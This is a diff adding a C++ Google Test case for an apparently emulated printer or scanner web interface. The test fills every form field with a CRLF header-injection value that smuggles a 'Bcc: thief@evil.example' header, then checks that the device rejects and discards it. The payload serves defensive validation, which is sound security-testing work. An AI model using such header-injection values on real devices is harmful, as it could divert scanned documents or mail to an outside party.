@@ -116,6 +116,47 @@ TEST_F(Frame, before_the_log_in_only_status_pages_are_shown) {
   }
 }
 
+/// Everything: pages of a function that a model lacks have fields too.
+class EveryField : public WebFixture {
+ protected:
+  EveryField()
+      : WebFixture({"scan-to-email", "scan-to-folder", "fax", "fax-server", "additional-network", "epa-serverless",
+                    "memory-device", "copy"}) {
+    log_in(password);
+  }
+  static std::vector<std::string> all_in(const std::string& page, const char* pattern) {
+    const std::regex wanted(pattern);
+    std::vector<std::string> found;
+    for (std::sregex_iterator at(page.begin(), page.end(), wanted), end; at != end; ++at) found.push_back((*at)[1]);
+    return found;
+  }
+  std::vector<std::string> forms() {
+    std::vector<std::string> pages{address("SEC_EPA_USERS", "EDIT"), address("SCAN_CONTACTS", "EDIT"),
+                                   address("SCAN_CONTACTS", "EDIT") + "?group=ON"};
+    for (const auto& tab : whole_menu()) {
+      for (const auto& item : tab.items) pages.push_back(address(item.id));
+    }
+    return pages;
+  }
+};
+
+TEST_F(EveryField, refuses_a_line_break_that_would_begin_a_header) {
+  int fields = 0;
+  for (const auto& at : forms()) {
+    const auto page = get(at);
+    if (page.status != 200) continue;
+    const auto action = all_in(page.body, R"re(<form method="post" action="([^"]+)" id="input_form")re");
+    if (action.empty()) continue;
+    for (const auto& name : all_in(page.body, R"re(<input id="[^"]+" name="([^"]+)" (?:value="|type="password"))re")) {
+      const auto answer = submit(at, action[0], {{name, "x\r\nBcc: thief@evil.example"}});
+      EXPECT_THAT(answer.body, Not(HasSubstr("Setup complete"))) << at << " " << name;
+      EXPECT_THAT(device::to_json(*machine->snapshot()), Not(HasSubstr("thief"))) << at << " " << name;
+      ++fields;
+    }
+  }
+  EXPECT_GT(fields, 30) << "they are found by how they are written";
+}
+
 TEST_F(Frame, values_stand_as_on_the_real_pages) {
   EXPECT_THAT(get(address("INFO_PRTINFO")).body,
               HasSubstr("<dt class=\"key\"><span class=\"key\">Firmware&nbsp;:</span></dt><dd class=\"value clearfix\">"
